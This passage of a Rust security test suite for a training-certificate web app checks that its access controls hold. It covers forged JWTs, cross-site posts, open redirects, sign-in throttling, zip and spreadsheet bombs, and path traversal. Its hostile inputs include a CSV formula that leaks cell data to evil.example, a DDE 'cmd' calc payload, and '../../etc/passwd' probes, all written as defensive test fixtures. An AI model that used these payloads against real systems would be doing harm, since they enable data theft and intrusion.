        police_session,
        learner_person,
        team1_person,
        police_person,
        team1_cert,
        police_cert,
        learner_cert,
        team1_exemption,
        police_exemption,
        team1_agency,
        police_agency,
        team1_program,
        province_program: province_program.id,
        own_upload,
        learner_attempt,
        police_attempt,
        team1_username: team1_account.username,
        police_username: police_account.username,
        team1_grant,
        police_grant,
    }
}

/// A multipart form with no file at all (the upload form posted empty).
async fn upload_fields(app: &TestApp, token: Option<&str>, path: &str) -> Resp {
    let boundary = "----taphuan-security-boundary";
    let body =
        format!("--{boundary}\r\nContent-Disposition: form-data; name=\"kind\"\r\n\r\nroster\r\n--{boundary}--\r\n");
    let mut b = Request::post(path)
        .header(header::HOST, "127.0.0.1:3000")
        .header(header::ORIGIN, "http://127.0.0.1:3000")
        .header(
            header::CONTENT_TYPE,
            format!("multipart/form-data; boundary={boundary}"),
        );
    if let Some(t) = token {
        b = b.header(header::COOKIE, format!("{}={t}", app::ssr::auth::COOKIE));
    }
    app.send(b.body(Body::from(body)).unwrap()).await
}

async fn upload(app: &TestApp, token: &str, filename: &str, bytes: &[u8]) -> Resp {
    app.upload(token, "roster", filename, bytes).await
}

/// Whether a response refuses the caller: 401/403, a "not found" that hides a foreign object,
/// or a form route's redirect to the sign-in page.
fn refused(r: &Resp) -> bool {
    matches!(
        r.status,
        StatusCode::UNAUTHORIZED | StatusCode::FORBIDDEN | StatusCode::NOT_FOUND
    ) || r.location.as_deref().is_some_and(|l| l.starts_with("/sign-in"))
}

#[tokio::test]
async fn the_access_matrix_holds_for_every_server_function_and_form_route() {
    let app = TestApp::spawn().await;
    let f = fixture(&app).await;
    let mut tokens: BTreeMap<Who, Option<String>> = BTreeMap::new();
    for (who, user) in [
        (Who::Learner, "hocvien"),
        (Who::Trainer, "giangvien"),
        (Who::TeamManager, "quanly.doi1"),
        (Who::ChiCucManager, "quanly"),
        (Who::Admin, "quantri"),
    ] {
        tokens.insert(who, Some(app.sign_in_demo(user).await));
    }
    tokens.insert(Who::Anonymous, None);

    // Deny by default: every registered server function needs a rule.
    let fn_rules = server_fn_rules();
    let registered: BTreeSet<String> = leptos::server_fn::axum::server_fn_paths()
        .map(|(path, _)| path.trim_start_matches("/api/").to_string())
        .collect();
    let unruled: Vec<&String> = registered
        .iter()
        .filter(|p| !fn_rules.contains_key(p.as_str()))
        .collect();
    assert!(
        unruled.is_empty(),
        "server functions without an access rule: {unruled:?}"
    );
    let stale: Vec<&&str> = fn_rules.keys().filter(|k| !registered.contains(**k)).collect();
    assert!(
        stale.is_empty(),
        "rules for server functions that no longer exist: {stale:?}"
    );
    let route_rules = route_rules();
    let routes = routes_in_startup();
    let unruled: Vec<&String> = routes
        .iter()
        .filter(|r| !route_rules.contains_key(r.as_str()))
        .collect();
    assert!(
        unruled.is_empty(),
        "routes in startup.rs without an access rule: {unruled:?}"
    );

    let mut cells = 0;
    let mut wrong: Vec<String> = Vec::new();
    for (ep, rule) in &fn_rules {
        for who in EVERYONE {
            for target in [Target::Own, Target::Foreign] {
                let args = (rule.args)(&f, target);
                let token = tokens[&who].as_deref();
                let r = if args.starts_with('{') {
                    app.call_json(ep, &serde_json::from_str(&args).unwrap(), token).await
                } else {
                    app.call(ep, &args, token).await
                };
                let got = if refused(&r) { Deny } else { Allow };
                let want = (rule.expect)(who, target);
                cells += 1;
                if got != want || r.status == StatusCode::INTERNAL_SERVER_ERROR {
                    wrong.push(format!(
                        "{ep} as {who:?} on {target:?}: want {want:?}, got {} {}",
                        r.status,
                        r.body.chars().take(160).collect::<String>()
                    ));
                }
            }
        }
    }
    // Signing out ends the sessions the other cells use: it goes last.
    let mut ordered: Vec<(&&str, &RouteRule)> = route_rules.iter().collect();
    ordered.sort_by_key(|(r, _)| **r == "/auth/sign-out");
    for (route, rule) in ordered {
        for who in EVERYONE {
            for target in [Target::Own, Target::Foreign] {
                let (method, path, body) = (rule.request)(&f, target);
                let path = if path == "{route}" { route.to_string() } else { path };
                let token = tokens[&who].as_deref();
                let r = match method {
                    "GET" => app.get(&path, token).await,
                    "MULTIPART" => upload_fields(&app, token, &path).await,
                    _ => app.post_form(&path, &body, token).await,
                };
                // The sign-in form's own answers are redirects back to it.
                let got = if route.starts_with("/auth/") {
                    if matches!(r.status, StatusCode::UNAUTHORIZED | StatusCode::FORBIDDEN) {
                        Deny
                    } else {
                        Allow
                    }
                } else if refused(&r) {
                    Deny
                } else {
                    Allow
                };
                let want = (rule.expect)(who, target);
                cells += 1;
                if got != want || r.status == StatusCode::INTERNAL_SERVER_ERROR {
                    wrong.push(format!(
                        "{method} {path} as {who:?} on {target:?}: want {want:?}, got {} {:?} {}",
                        r.status,
                        r.location,
                        r.body.chars().take(160).collect::<String>()
                    ));
                }
            }
        }
    }
    println!(
        "access matrix: {} server functions + {} form routes × {} roles × 2 targets = {cells} cells",
        fn_rules.len(),
        route_rules.len(),
        EVERYONE.len()
    );
    assert!(
        wrong.is_empty(),
        "{} of {cells} cells differ from the rule:\n{}",
        wrong.len(),
        wrong.join("\n")
    );
}

// ---------------------------------------------------------------------------------------------
// Tokens and origins
// ---------------------------------------------------------------------------------------------

fn b64(v: &serde_json::Value) -> String {
    use base64::Engine;
    base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(v.to_string())
}

fn forged(header: serde_json::Value, claims: serde_json::Value, sig: &str) -> String {
    format!("{}.{}.{sig}", b64(&header), b64(&claims))
}

#[tokio::test]
async fn forged_tokens_are_refused() {
    let app = TestApp::spawn().await;
    let admin = account::Entity::find()
        .filter(account::Column::Username.eq("quantri"))
        .one(&app.state.db)
        .await
        .unwrap()
        .unwrap();
    let now = chrono::Utc::now().timestamp();
    let good = serde_json::json!({"sub": admin.id.to_string(), "exp": now + 3600, "iat": now, "aud": "taphuan-web", "iss": "taphuan", "ver": admin.token_version});
    let secret = &app.state.config.jwt_secret;
    let sign = |claims: &serde_json::Value, key: &[u8]| {
        jsonwebtoken::encode(
            &jsonwebtoken::Header::new(jsonwebtoken::Algorithm::HS256),
            claims,
            &jsonwebtoken::EncodingKey::from_secret(key),
        )
        .unwrap()
    };
    // The control: a well-signed token works.
    assert_eq!(
        app.call("admin_overview", "", Some(&sign(&good, secret))).await.status,
        StatusCode::OK
    );
    let mut exp_string = good.clone();
    exp_string["exp"] = serde_json::json!((now + 3600).to_string());
    let mut wrong_aud = good.clone();
    wrong_aud["aud"] = serde_json::json!("another-app");
    let public_pem = app.state.certs.public_pem().to_string();
    let attacks: Vec<(&str, String)> = vec![
        (
            "alg none",
            forged(serde_json::json!({"alg": "none", "typ": "JWT"}), good.clone(), ""),
        ),
        ("wrong key", sign(&good, b"another-secret-another-secret-another")),
        // Algorithm confusion: HS256 keyed with the published Ed25519 public key.
        ("public key as HMAC secret", sign(&good, public_pem.as_bytes())),
        (
            "alg EdDSA header",
            forged(serde_json::json!({"alg": "EdDSA", "typ": "JWT"}), good.clone(), "AAAA"),
        ),
        ("exp as a string", sign(&exp_string, secret)),
        ("wrong audience", sign(&wrong_aud, secret)),
    ];
    for (what, token) in attacks {
        let r = app.call("admin_overview", "", Some(&token)).await;
        assert_eq!(r.status, StatusCode::UNAUTHORIZED, "{what}: {}", r.body);
    }
    // After sign-out the same token is dead.
    let t = app.sign_in_demo("quantri").await;
    app.post_form("/auth/sign-out", "", Some(&t)).await;
    assert_eq!(
        app.call("admin_overview", "", Some(&t)).await.status,
        StatusCode::UNAUTHORIZED
    );
}

#[tokio::test]
async fn cross_site_posts_are_refused_on_forms_and_server_functions() {
    let app = TestApp::spawn().await;
    let t = app.sign_in_demo("quantri").await;
    for (path, body) in [
        ("/certificates/X/revoke", "reason=x"),
        ("/api/admin_overview", ""),
        ("/roster/apply", "upload=1"),
    ] {
        for (h, v) in [
            ("origin", "https://evil.example"),
            ("sec-fetch-site", "cross-site"),
            ("origin", "null"),
        ] {
            let req = Request::post(path)
                .header(header::HOST, "127.0.0.1:3000")
                .header(h, v)
                .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
                .header(header::COOKIE, format!("{}={t}", app::ssr::auth::COOKIE))
                .body(Body::from(body))
                .unwrap();
            let r = app.send(req).await;
            assert_eq!(r.status, StatusCode::FORBIDDEN, "{path} with {h}: {v}");
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Redirects
// ---------------------------------------------------------------------------------------------

#[tokio::test]
async fn sign_in_and_withdraw_redirect_only_to_paths_of_this_site() {
    let app = TestApp::spawn().await;
    let pw = app::ssr::seed::DEMO_PASSWORD;
    for evil in [
        "/%09/evil.example",
        "/%5Cevil.example",
        "//evil.example",
        "https://evil.example/",
        "/%0A/evil.example",
    ] {
        let r = app
            .post_form(
                "/auth/sign-in",
                &format!("username=quanly&password={pw}&next={evil}"),
                None,
            )
            .await;
        let to = r.location.unwrap_or_default();
        assert_eq!(to, "/coverage", "next={evil} must fall back to the role's home");
    }
    let r = app
        .post_form(
            "/auth/sign-in",
            &format!("username=quanly&password={pw}&next=/programs%3Fx%3D1"),
            None,
        )
        .await;
    assert_eq!(r.location.as_deref(), Some("/programs?x=1"), "a local next is kept");
    // A failed sign-in keeps only a local next.
    let r = app
        .post_form(
            "/auth/sign-in",
            "username=quanly&password=nope&next=/%09/evil.example",
            None,
        )
        .await;
    assert!(!r.location.unwrap_or_default().contains("evil"));
    // The withdraw form's `back`.
    let t = app.sign_in_demo("quantri").await;
    for evil in ["/%5Cevil.example", "/%09/evil.example", "//evil.example"] {
        let r = app
            .post_form(
                "/exemptions/999999/withdraw",
                &format!("reason=x&back={evil}"),
                Some(&t),
            )
            .await;
        let to = r.location.unwrap_or_default();
        assert!(!to.contains("evil") && !to.starts_with("//"), "back={evil} → {to}");
    }
    // The sign-in page keeps `next` in its form with JavaScript off (the attribute, not a prop).
    let page = app.get("/sign-in?next=/coverage/report", None).await;
    assert!(
        page.body.contains(r#"name="next" value="/coverage/report""#),
        "the sign-in form must carry next in its HTML"
    );
}

// ---------------------------------------------------------------------------------------------
// Sign-in throttling
// ---------------------------------------------------------------------------------------------

async fn sign_in_from(app: &TestApp, addr: &str, user: &str, pw: &str) -> Resp {
    let mut req = Request::post("/auth/sign-in")
        .header(header::HOST, "127.0.0.1:3000")
        .header(header::ORIGIN, "http://127.0.0.1:3000")
        .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
        .body(Body::from(format!("username={user}&password={pw}")))
        .unwrap();
    req.extensions_mut()
        .insert(axum::extract::ConnectInfo::<std::net::SocketAddr>(
            addr.parse().unwrap(),
        ));
    app.send(req).await
}

#[tokio::test]
async fn failed_sign_ins_back_off_alike_for_real_and_unknown_accounts() {
    let app = TestApp::spawn().await;
    let pw = app::ssr::seed::DEMO_PASSWORD;
    let free = app::ssr::throttle::FREE_PER_ACCOUNT as usize;
    let mut seen: BTreeMap<&str, Vec<String>> = BTreeMap::new();
    for user in ["quantri", "khong-ton-tai"] {
        for i in 0..20 {
            // Each from its own address, so only the account's count is at work.
            let r = sign_in_from(&app, &format!("198.51.100.{}:5000", i + 1), user, "sai-mat-khau").await;
            assert_eq!(r.status, StatusCode::SEE_OTHER);
            assert!(r.session_cookie().is_none());
            // The answer's kind, without the wait's exact seconds.
            let loc = r.location.unwrap_or_default();
            seen.entry(user)
                .or_default()
                .push(loc.split("&wait").next().unwrap().to_string());
        }
    }
    assert_eq!(
        seen["quantri"], seen["khong-ton-tai"],
        "an existing and an unknown account are answered alike"
    );
    assert!(
        seen["quantri"][..free]
            .iter()
            .all(|l| l == "/sign-in?error=credentials")
    );
    assert!(
        seen["quantri"][free..].iter().all(|l| l == "/sign-in?error=throttled"),
        "{:?}",
        seen["quantri"]
    );
    // The right password during the back-off is not accepted: it waits.
    let r = sign_in_from(&app, "198.51.100.99:5000", "quantri", pw).await;
    assert!(r.session_cookie().is_none(), "no session during the back-off");
    let loc = r.location.unwrap_or_default();
    assert!(loc.starts_with("/sign-in?error=throttled&wait="), "{loc}");
    // When the back-off ends (the clock moves on), the right password works and clears it.
    let later = chrono::Utc::now() + chrono::Duration::minutes(16);
    let _frozen = app::ssr::clock::freeze(later);
    let r = sign_in_from(&app, "198.51.100.99:5000", "quantri", pw).await;
    assert!(r.session_cookie().is_some_and(|c| !c.is_empty()), "{:?}", r.location);
    // The page says how long to wait, in words.
    let page = app.get("/sign-in?error=throttled&wait=120", None).await;
    assert!(page.body.contains("vui lòng đợi 2 phút"), "the message names the wait");
}

#[tokio::test]
async fn one_address_guessing_many_accounts_is_slowed_too() {
    let app = TestApp::spawn().await;
    let free = app::ssr::throttle::FREE_PER_ADDRESS as usize;
    let mut last = String::new();
    for i in 0..=free {
        let r = sign_in_from(&app, "203.0.113.5:4000", &format!("nguoi-{i}"), "x").await;
        last = r.location.unwrap_or_default();
    }
    assert!(last.starts_with("/sign-in?error=throttled"), "{last}");
    // Another address is not affected.
    let r = sign_in_from(&app, "203.0.113.6:4000", "nguoi-khac", "x").await;
    assert_eq!(r.location.as_deref(), Some("/sign-in?error=credentials"));
}

// ---------------------------------------------------------------------------------------------
// Files: CSV formulas, hostile spreadsheets, request sizes
// ---------------------------------------------------------------------------------------------

#[tokio::test]
async fn a_formula_in_a_name_is_neutralised_in_the_csv_export_and_warned_at_import() {
    let evil = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"x\")";
    // A course title is a trainer's words, and the matrix's header: a formula there too.
    let content = common::content_copy();
    let course = content.join("a-khung-phap-ly/course.md");
    let text = std::fs::read_to_string(&course).unwrap().replace(
        "title = \"Khung pháp lý về thương mại điện tử\"",
        "title = \"@SUM(1+1)*cmd|' /C calc'!A0\"",
    );
    std::fs::write(&course, text).unwrap();
    let app = TestApp::spawn_with_content(&content).await;
    let d1 = app.agency_id("GL-QLTT-D01").await;
    let p = person::Entity::find()
        .filter(person::Column::AgencyId.eq(d1))
        .filter(person::Column::Enforcement.eq(true))
        .one(&app.state.db)
        .await
        .unwrap()
        .unwrap();
    let mut am: person::ActiveModel = p.into();
    am.full_name = Set(evil.into());
    am.update(&app.state.db).await.unwrap();
    let t = app.sign_in_demo("quanly.doi1").await;
    let csv = app
        .get(&format!("/coverage/export/matrix.csv?agency={d1}"), Some(&t))
        .await;
    assert_eq!(csv.status, StatusCode::OK);
    // The header row read as cells too.
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(b';')
        .has_headers(false)
        .from_reader(csv.body.trim_start_matches('\u{feff}').as_bytes());
    let cells: Vec<String> = reader
        .records()
        .flat_map(|r| r.unwrap().iter().map(String::from).collect::<Vec<_>>())
        .collect();
    assert!(
        cells.iter().any(|c| c == &format!("'{evil}")),
        "the name is exported as text"
    );
    assert!(
        cells.iter().any(|c| c == "'@SUM(1+1)*cmd|' /C calc'!A0"),
        "the course title in the header is exported as text: {cells:?}"
    );
    assert!(
        cells.iter().all(|c| !c.starts_with(['=', '+', '-', '@', '\t', '\r'])),
        "no exported cell starts a formula"
    );
    // At import, such a name is a warning in the preview.
    let file = format!(
        "Mã cán bộ;Họ và tên;Mã đơn vị;Chức vụ;Nhiệm vụ thực thi\nGL77001;{evil};GL-QLTT-D01;Kiểm soát viên thị trường;có\n"
    );
    let r = upload(&app, &t, "x.csv", file.as_bytes()).await;
    let id = r.location.unwrap().split("upload=").nth(1).unwrap().to_string();
    let preview = app.call("roster_preview", &format!("id={id}"), Some(&t)).await.json();
    let warnings = preview["warnings"].as_array().unwrap();
    assert_eq!(warnings.len(), 1, "{preview}");
    assert!(
        warnings[0].as_str().unwrap().starts_with("dòng 2 (họ và tên)"),
        "{warnings:?}"
    );
}

/// A workbook whose first sheet has cells A1 and XFD1048576 (1.6 KB; it once made the reader
/// allocate rows × columns, 512 GB, and the process abort).
fn sparse_bomb() -> Vec<u8> {
    let mut wb = rust_xlsxwriter::Workbook::new();
    let ws = wb.add_worksheet();
    ws.write_string(0, 0, "Mã cán bộ").unwrap();
    ws.write_string(1_048_575, 16_383, "x").unwrap();
    wb.save_to_buffer().unwrap()
}

/// A zip that unpacks to far more than a roster could be (a 200 MB shared-strings part).
fn zip_bomb() -> Vec<u8> {
    use std::io::Write;
    let mut buf = std::io::Cursor::new(Vec::new());
    {
        let mut z = zip::ZipWriter::new(&mut buf);
        let opts = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
        z.start_file("[Content_Types].xml", opts).unwrap();
        z.write_all(b"<Types/>").unwrap();
        z.start_file("xl/sharedStrings.xml", opts).unwrap();
        let zeros = vec![b' '; 1 << 20];
        for _ in 0..200 {
            z.write_all(&zeros).unwrap();
        }
        z.finish().unwrap();
    }
    buf.into_inner()
}

#[tokio::test]
async fn hostile_spreadsheets_are_refused_in_words_and_the_server_keeps_answering() {
    let app = TestApp::spawn().await;
    let t = app.sign_in_demo("quanly.doi1").await;
    let bomb = sparse_bomb();
    assert!(
        bomb.len() < 16 * 1024,
        "the crafted workbook is small: {} bytes",
        bomb.len()
    );
    let r = upload(&app, &t, "bom.xlsx", &bomb).await;
    let loc = r.location.unwrap_or_default();
    assert!(loc.starts_with("/roster?error=excel&detail="), "{loc}");
    let detail: String = form_urlencoded::parse(loc.split_once('?').unwrap().1.as_bytes())
        .find(|(k, _)| k == "detail")
        .unwrap()
        .1
        .into_owned();
    assert!(detail.contains("XFD1048576"), "{detail}");
    let r = upload(&app, &t, "zip.xlsx", &zip_bomb()).await;
    let loc = r.location.unwrap_or_default();
    assert!(loc.contains("error=excel"), "{loc}");
    assert!(loc.contains("MiB"), "the zip bomb is named as too big: {loc}");
    // An old .xls is refused with a hint rather than read.
    let r = upload(
        &app,
        &t,
        "cu.xls",
        &[0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, 0, 0, 0, 0],
    )
    .await;
    assert!(r.location.unwrap_or_default().contains("error=excel"));
    // And the server answers the next request.
    assert_eq!(app.get("/healthz", None).await.status, StatusCode::OK);
    assert_eq!(app.call("whoami", "", Some(&t)).await.status, StatusCode::OK);
}

#[tokio::test]
async fn oversized_bodies_get_413_or_a_clear_message_not_a_500() {
    let app = TestApp::spawn().await;
    let t = app.sign_in_demo("quanly.doi1").await;
    let big = "x".repeat(3 * 1024 * 1024);
    let r = app.call("whoami", &format!("pad={big}"), Some(&t)).await;
    assert_eq!(r.status, StatusCode::PAYLOAD_TOO_LARGE);
    // A roster between axum's 2 MiB default and the roster's own 8 MiB is read, not "missing".
    let mut file = b"ma can bo,ho va ten,ma don vi,chuc vu,nhiem vu thuc thi\n".to_vec();
    while file.len() < 3 * 1024 * 1024 {
        file.extend_from_slice(b"GL1,A,GL-QLTT-D01,KSV,co\n");
    }
    let r = upload(&app, &t, "lon.csv", &file).await;
    assert!(
        r.location.unwrap_or_default().starts_with("/roster?upload="),
        "a 3 MiB roster is accepted"
    );
    // Past 8 MiB the page says "too big".
    let huge = vec![b'a'; 9 * 1024 * 1024];
    let r = upload(&app, &t, "qua-lon.csv", &huge).await;
    assert_eq!(r.location.as_deref(), Some("/roster?error=too_big"));
}

#[tokio::test]
async fn a_huge_page_number_does_not_crash_a_request() {
    let app = TestApp::spawn().await;
    let t = app.sign_in_demo("quanly").await;
    let d1 = app.agency_id("GL-QLTT-D01").await;
    for page in ["18446744073709551615", "9223372036854775807", "4294967296"] {
        let r = app
            .call("people", &format!("agency_id={d1}&search=&page={page}"), Some(&t))
            .await;
        assert!(
            r.status.is_success() || r.status == StatusCode::UNPROCESSABLE_ENTITY,
            "page={page}: {}",
            r.status
        );
    }
    assert_eq!(app.get("/healthz", None).await.status, StatusCode::OK);
}

// ---------------------------------------------------------------------------------------------
// Headers and error bodies
// ---------------------------------------------------------------------------------------------

#[tokio::test]
async fn responses_carry_security_headers_and_signed_in_pages_are_not_cached() {
    let app = TestApp::spawn().await;
    let t = app.sign_in_demo("hocvien").await;
    let req = Request::get("/learn")
        .header(header::HOST, "127.0.0.1:3000")
        .header(header::ACCEPT, "text/html")
        .header(header::COOKIE, format!("{}={t}", app::ssr::auth::COOKIE))
        .body(Body::empty())
        .unwrap();
    let res = app.router.clone().oneshot_raw(req).await;
    let h = res.headers();
    let csp = h
        .get(header::CONTENT_SECURITY_POLICY)
        .unwrap()
        .to_str()
        .unwrap()
        .to_string();
    assert!(
        csp.contains("frame-ancestors 'none'") && csp.contains("object-src 'none'"),
        "{csp}"
    );
    let nonce = csp
        .split("'nonce-")
        .nth(1)
        .and_then(|s| s.split('\'').next())
        .expect("a nonce in the policy");
    assert_eq!(h.get(header::X_CONTENT_TYPE_OPTIONS).unwrap(), "nosniff");
    assert_eq!(h.get(header::X_FRAME_OPTIONS).unwrap(), "DENY");
    assert_eq!(h.get(header::REFERRER_POLICY).unwrap(), "same-origin");
    assert_eq!(h.get(header::CACHE_CONTROL).unwrap(), "no-store");
    assert!(
        h.get(header::STRICT_TRANSPORT_SECURITY).is_none(),
        "HSTS only in production"
    );
    use http_body_util::BodyExt;
    let body = String::from_utf8(res.into_body().collect().await.unwrap().to_bytes().to_vec()).unwrap();
    assert!(
        body.contains(&format!("nonce=\"{nonce}\"")),
        "the page's scripts carry the policy's nonce"
    );
    // No request header loosens that: a signed-in page asked for as JSON is not stored either.
    let follow = Request::get("/learn")
        .header(header::HOST, "127.0.0.1:3000")
        .header(header::ACCEPT, "application/json")
        .header(header::COOKIE, format!("{}={t}", app::ssr::auth::COOKIE))
        .body(Body::empty())
        .unwrap();
    let r = app.router.clone().oneshot_raw(follow).await;
    assert_eq!(r.headers().get(header::CACHE_CONTROL).unwrap(), "no-store");
    // API answers are never cached; an asset gets the sandboxing policy.
    let r = app.router.clone().oneshot_raw(api_request("whoami")).await;
    assert_eq!(r.headers().get(header::CACHE_CONTROL).unwrap(), "no-store");
    let r = app
        .router
        .clone()
        .oneshot_raw(
            Request::get("/content/f-de-an-319-gia-lai/images/moc-thoi-gian.svg")
                .body(Body::empty())
                .unwrap(),
        )
        .await;
    assert_eq!(r.status(), StatusCode::OK);
    let csp = r
        .headers()
        .get(header::CONTENT_SECURITY_POLICY)
        .unwrap()
        .to_str()
        .unwrap();
    assert!(csp.contains("sandbox") && csp.contains("default-src 'none'"), "{csp}");
    // Production adds HSTS.
    let prod = TestApp::spawn_configured(|c| c.env = app::ssr::config::Environment::Production).await;
    let r = prod
        .router
        .clone()
        .oneshot_raw(Request::get("/healthz").body(Body::empty()).unwrap())
        .await;
    assert!(r.headers().get(header::STRICT_TRANSPORT_SECURITY).is_some());
}

fn api_request(endpoint: &str) -> Request<Body> {
    Request::post(format!("/api/{endpoint}"))
        .header(header::HOST, "127.0.0.1:3000")
        .header(header::ORIGIN, "http://127.0.0.1:3000")
        .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
        .body(Body::empty())
        .unwrap()
}

trait OneshotRaw {
    async fn oneshot_raw(self, req: Request<Body>) -> axum::response::Response;
}

impl OneshotRaw for axum::Router {
    async fn oneshot_raw(self, req: Request<Body>) -> axum::response::Response {
        use tower::ServiceExt;
        self.oneshot(req).await.unwrap()
    }
}

#[tokio::test]
async fn error_bodies_reveal_no_internals() {
    let app = TestApp::spawn().await;
    let t = app.sign_in_demo("quanly").await;
    let probes = [
        app.call("people", "agency_id=abc&search=&page=0", Some(&t)).await,
        app.call("person_record", "id=-1", Some(&t)).await,
        app.call("program_editor", "id=99999999", Some(&t)).await,
        app.call("no_such_function", "", Some(&t)).await,
        app.post_form("/people/abc/exemptions", "program_id=x", Some(&t)).await,
        app.get("/coverage/export/../../etc/passwd", Some(&t)).await,
        app.get("/content/f-de-an-319-gia-lai/../../Cargo.toml", None).await,
        app.get("/content/f-de-an-319-gia-lai/01-de-an-319.md", None).await,
    ];
    for r in probes {
        for leak in [
            "sqlx",
            "SQLITE",
            "sea_orm",
            "panicked",
            "src/",
            "DbErr",
            "/work/",
            "[workspace]",
            "+++",
        ] {
            assert!(
                !r.body.contains(leak),
                "{} leaks {leak}: {}",
                r.status,
                r.body.chars().take(300).collect::<String>()
            );
        }
        assert_ne!(r.status, StatusCode::INTERNAL_SERVER_ERROR, "{}", r.body);
    }
}

// ---------------------------------------------------------------------------------------------
// Certificates cannot be listed; the revoke form says nothing before sign-in
// ---------------------------------------------------------------------------------------------

#[tokio::test]
async fn certificate_numbers_are_unguessable_and_a_number_alone_names_nobody() {
    let app = TestApp::spawn().await;
    let f = fixture(&app).await;
    // Three certificates issued one after another share no sequence.
    let nums = [&f.team1_cert, &f.police_cert, &f.learner_cert];
    for n in nums {
        assert!(n.len() == "GL-2026-XXXXX-XXXXX".len() && n.starts_with("GL-"), "{n}");
    }
    let tails: BTreeSet<&str> = nums.iter().map(|n| &n[8..]).collect();
    assert_eq!(tails.len(), 3);
    // The anonymous verify page tells the status, not who holds it.
    let v = app
        .call("verify_certificate", &format!("number={}", f.team1_cert), None)
        .await
        .json();
    assert_eq!(v["status"], "Valid");
    assert_eq!(v["full_name"], "");
    assert_eq!(v["holder_shown"], false);
    let holder = person::Entity::find_by_id(f.team1_person)
        .one(&app.state.db)
        .await
        .unwrap()
        .unwrap();
    let page = app.get(&format!("/verify/{}", f.team1_cert), None).await;
    assert!(
        !page.body.contains(&holder.full_name),
        "the holder's name is not on the page"
    );
    // An unknown number is a 404.
    let r = app.call("verify_certificate", "number=GL-2026-00000-00000", None).await;
    assert_eq!(r.status, StatusCode::NOT_FOUND);
    // Look-ups are limited per address and minute.
    let mut last = StatusCode::OK;
    for _ in 0..=app::ssr::throttle::VERIFY_PER_MINUTE {
        let mut req = api_request("verify_certificate");
        *req.body_mut() = Body::from(format!("number={}", f.team1_cert));
        req.extensions_mut()
            .insert(axum::extract::ConnectInfo::<std::net::SocketAddr>(
                "192.0.2.50:1234".parse().unwrap(),
            ));
        last = app.send(req).await.status;
    }
    assert_eq!(last, StatusCode::TOO_MANY_REQUESTS);
    // Without a session, the revoke form redirects to sign-in without naming the holder.
    let r = app
        .post_form(&format!("/certificates/{}/revoke", f.team1_cert), "reason=x", None)
        .await;
    let loc = r.location.unwrap_or_default();
    assert!(loc.starts_with("/sign-in"), "{loc}");
    assert!(
        !loc.contains(&f.team1_person.to_string()),
        "no person id before sign-in: {loc}"
    );
}

#[tokio::test]
async fn a_lesson_image_is_served_and_nothing_else_is() {
    let app = TestApp::spawn().await;
    let r = app
        .get("/content/f-de-an-319-gia-lai/images/moc-thoi-gian.svg", None)
        .await;
    assert_eq!(r.status, StatusCode::OK);
    assert!(r.body.contains("<svg"));
    for bad in [
        "/content/f-de-an-319-gia-lai/../a-khung-phap-ly/course.md",
        "/content/f-de-an-319-gia-lai/%2e%2e/%2e%2e/Cargo.toml",
        "/content/f-de-an-319-gia-lai/course.md",
        "/content/f-de-an-319-gia-lai/REVIEW.md",
        "/content/nope/images/moc-thoi-gian.svg",
        "/content/f-de-an-319-gia-lai/images/nope.svg",
    ] {
        let r = app.get(bad, None).await;
        assert_eq!(r.status, StatusCode::NOT_FOUND, "{bad}");
    }
}

// ---------------------------------------------------------------------------------------------
// A wrong roster file cannot end a unit's history with one click
// ---------------------------------------------------------------------------------------------

#[tokio::test]
async fn a_two_row_roster_updates_by_default_and_a_complete_list_must_confirm_its_leavers() {
    let app = TestApp::spawn().await;
    let t = app.sign_in_demo("quanly").await;
    let qltt = app.agency_id("GL-QLTT").await;
    let active_before = active_under(&app, qltt).await;
    let file = "Mã cán bộ;Họ và tên;Mã đơn vị;Chức vụ;Nhiệm vụ thực thi\n\
                GL88001;Nguyễn Văn Một;GL-QLTT-D01;Kiểm soát viên thị trường;có\n\
                GL88002;Trần Thị Hai;GL-QLTT-D02;Kiểm soát viên thị trường;có\n";
    let r = upload(&app, &t, "hai-dong.csv", file.as_bytes()).await;
    let id: i64 = r.location.unwrap().split("upload=").nth(1).unwrap().parse().unwrap();
    // Default: update these people. Two joiners, no leavers.
    let p = app.call("roster_preview", &format!("id={id}"), Some(&t)).await.json();
    assert_eq!(
        (p["joiners"].as_u64(), p["leavers"].as_u64()),
        (Some(2), Some(0)),
        "{p}"
    );
    assert_eq!(p["mode"], "update");
    // As the complete list of the Chi cục: every other official would leave, so the manager
    // must type their number.
    let p = app
        .call("roster_preview", &format!("id={id}&mode=complete"), Some(&t))
        .await
        .json();
    let leavers = p["leavers"].as_u64().unwrap();
    assert!(leavers > 100, "{p}");
    assert_eq!(p["needs_confirmation"], true);
    let groups: Vec<(String, Vec<String>)> = serde_json::from_value(p["groups"].clone()).unwrap();
    assert_eq!(
        groups.iter().find(|(k, _)| k == "leavers").unwrap().1.len() as u64,
        leavers
    );
    // Without the number, or with a wrong one, nothing is applied.
    for confirm in ["", "1"] {
        let r = app
            .post_form(
                "/roster/apply",
                &format!("upload={id}&mode=complete&confirm={confirm}"),
                Some(&t),
            )
            .await;
        assert!(r.location.unwrap_or_default().contains("error=confirm"));
        assert_eq!(active_under(&app, qltt).await, active_before, "nothing applied");
    }
    // Cancel discards the upload: it can no longer be applied.
    let r = app.post_form("/roster/cancel", &format!("upload={id}"), Some(&t)).await;
    assert_eq!(r.location.as_deref(), Some("/roster?discarded=1"));
    app.post_form("/roster/apply", &format!("upload={id}&mode=update"), Some(&t))
        .await;
    assert_eq!(
        active_under(&app, qltt).await,
        active_before,
        "a discarded file applies nothing"
    );
    // A fresh upload in update mode applies the two joiners and nobody leaves.
    let r = upload(&app, &t, "hai-dong.csv", file.as_bytes()).await;
    let id: i64 = r.location.unwrap().split("upload=").nth(1).unwrap().parse().unwrap();
    app.post_form("/roster/apply", &format!("upload={id}&mode=update"), Some(&t))
        .await;
    assert_eq!(active_under(&app, qltt).await, active_before + 2);
}

async fn active_under(app: &TestApp, agency_id: i64) -> usize {
    let root = agency::Entity::find_by_id(agency_id)
        .one(&app.state.db)
        .await
        .unwrap()
        .unwrap();
    let ids: Vec<i64> = agency::Entity::find()
        .filter(agency::Column::Path.starts_with(root.path.as_str()))
